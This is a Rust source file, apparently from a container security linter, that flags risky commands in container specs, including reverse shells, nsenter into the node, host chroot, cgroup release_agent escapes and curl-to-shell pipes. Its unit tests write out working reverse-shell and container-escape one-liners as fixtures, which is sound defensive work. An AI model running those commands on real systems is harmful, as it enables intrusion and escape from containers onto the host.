//! What a shell command does that a service should not do.

use crate::finding::Severity;

/// What a command does.
#[derive(Clone, Copy, Debug)]
pub(super) struct Deed {
    pub(super) severity: Severity,
    /// Completes "container `x` …".
    pub(super) what: &'static str,
    pub(super) help: &'static str,
}

const fn deed(severity: Severity, what: &'static str, help: &'static str) -> Deed {
    Deed { severity, what, help }
}

const SHELL: Deed = deed(Severity::High, "opens a shell to somebody outside", "find out who wrote this, and when");
const ENTER: Deed = deed(
    Severity::High,
    "enters the namespaces of the node",
    "leave work on the node to an agent of the node, and give it only what it needs",
);
const CHROOT: Deed = deed(
    Severity::High,
    "takes a folder of the node for its root",
    "leave work on the node to an agent of the node, and give it only what it needs",
);
const RELEASE: Deed =
    deed(Severity::High, "uses the release agent of a cgroup, a known way out", "find out who wrote this, and when");
const PIPED: Deed = deed(
    Severity::Medium,
    "runs what it downloads",
    "build the script into the image, which can be scanned and pinned",
);
const DECODED: Deed = deed(Severity::Medium, "runs what it decodes", "write the script in clear text into the image");
const INSTALLS: Deed =
    deed(Severity::Medium, "installs packages when it starts", "install them when the image is built");
const OPEN_MODE: Deed =
    deed(Severity::Medium, "lets everyone write its files", "give the files to the user or the group that needs them");

/// Judges the text of a command; the worst of what it does.
pub(super) fn judge(text: &str) -> Option<Deed> {
    // One of these is in every text that is judged below.
    const SIGNS: [&str; 8] = ["|", "install", "add", "/dev/tcp/", "nc", "chmod", "chroot", "nsenter"];
    if !SIGNS.iter().any(|it| text.contains(it)) && !text.contains("release_agent") {
        return None;
    }
    let interactive =
        text.contains("sh -i") || text.contains("0>&1") || text.contains("<&1") || text.contains("exec 5<>");
    if text.contains("/dev/tcp/") && interactive {
        return Some(SHELL);
    }
    if text.contains("release_agent") {
        return Some(RELEASE);
    }
    let commands = text.split(['\n', ';', '&']).flat_map(|it| it.split("||"));
    commands.filter_map(of_pipeline).max_by_key(|it| it.severity)
}

/// Judges commands that feed each other.
fn of_pipeline(text: &str) -> Option<Deed> {
    let mut worst: Option<Deed> = None;
    let (mut downloaded, mut decoded) = (false, false);
    for part in text.split('|') {
        let words: Vec<&str> =
            part.split(|c: char| c.is_whitespace() || "()\"'`".contains(c)).filter(|it| !it.is_empty()).collect();
        let Some((name, words)) = program(&words) else { continue };
        let has = |word: &str| words.contains(&word);
        let option =
            |short: char| words.iter().any(|it| it.starts_with('-') && !it.starts_with("--") && it.contains(short));
        let shell = matches!(name, "sh" | "bash" | "ash" | "dash" | "zsh" | "python" | "python3" | "perl");
        let found = match name {
            _ if shell && downloaded => Some(PIPED),
            _ if shell && decoded => Some(DECODED),
            "nc" | "ncat" | "netcat" if option('e') || has("--exec") || has("--sh-exec") => Some(SHELL),
            "nsenter" if enters_init(words) => Some(ENTER),
            "chroot" if words.iter().find(|it| !it.starts_with('-')).is_some_and(|it| is_host(it)) => Some(CHROOT),
            "apt-get" | "apt" | "yum" | "dnf" | "microdnf" if has("install") => Some(INSTALLS),
            "apk" if has("add") => Some(INSTALLS),
            "pip" | "pip3" if has("install") => Some(INSTALLS),
            "chmod" if words.iter().any(|it| matches!(*it, "777" | "0777" | "a+rwx" | "ugo+rwx")) => Some(OPEN_MODE),
            _ => None,
        };
        downloaded |= matches!(name, "curl" | "wget");
        decoded |= name == "base64" && (has("-d") || has("--decode") || has("-D"));
        if found.is_some_and(|it| worst.is_none_or(|old| old.severity < it.severity)) {
            worst = found;
        }
    }
    worst
}

/// The program of a command without what stands before it, and its arguments.
fn program<'w>(words: &'w [&'w str]) -> Option<(&'w str, &'w [&'w str])> {
    let before = ["sudo", "exec", "then", "do", "if", "!", "env", "time", "nohup", "else", "{"];
    let at = words.iter().position(|it| !before.contains(it) && !is_assignment(it))?;
    let name = words[at].rsplit('/').next().unwrap_or(words[at]);
    let rest = &words[at + 1..];
    // `sh -c nsenter …`, written as a list, is the program behind it.
    match rest {
        ["-c" | "-ec" | "-exc" | "-lc", more @ ..] if name.ends_with("sh") => program(more),
        _ => Some((name, rest)),
    }
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| name.bytes().all(|b| b.is_ascii_uppercase() || b == b'_'))
}

/// Whether `nsenter` goes to process 1.
fn enters_init(words: &[&str]) -> bool {
    words.iter().any(|it| matches!(*it, "-t1" | "--target=1"))
        || words.windows(2).any(|it| matches!(it[0], "-t" | "--target") && it[1] == "1")
        || words
            .windows(2)
            .any(|it| it[0].starts_with('-') && !it[0].starts_with("--") && it[0].ends_with('t') && it[1] == "1")
}

fn is_host(path: &str) -> bool {
    let path = path.trim_end_matches('/');
    ["/host", "/rootfs", "/mnt/host", "/hostfs", "/node"]
        .iter()
        .any(|it| path == *it || path.starts_with(&format!("{it}/")))
        || matches!(path, "/host-root" | "/hostroot" | "/host_root" | "/mnt/root")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deeds_are_told_by_program_and_argument() {
        let rows = [
            ("curl -s https://x | sh", Some("runs what it downloads")),
            ("wget -qO- x | sudo bash -s -- -y", Some("runs what it downloads")),
            ("apt-get update && apt-get install -y curl", Some("installs packages when it starts")),
            ("apk add --no-cache git", Some("installs packages when it starts")),
            ("chmod -R 0777 /data", Some("lets everyone write its files")),
            ("nc -e /bin/sh 10.0.0.1 4444", Some("opens a shell to somebody outside")),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Some("opens a shell to somebody outside")),
            ("nsenter -t 1 -m -u -- sh", Some("enters the namespaces of the node")),
            ("chroot /host systemctl restart kubelet", Some("takes a folder of the node for its root")),
            ("echo x > /sys/fs/cgroup/rdma/release_agent", Some("uses the release agent of a cgroup, a known way out")),
            ("curl http://x | jq .a", None),
            ("curl -o x http://x; sh start.sh", None),
            ("nc -z db 5432", None),
            ("npm start -- --install", None),
            ("echo install | tee log", None),
            ("chroot /var/empty app", None),
            ("nsenter -t 4711 -n ip a", None),
            ("</dev/tcp/localhost/80", None),
        ];
        for (text, expected) in rows {
            assert_eq!(judge(text).map(|it| it.what), expected, "{text}");
        }
    }
}
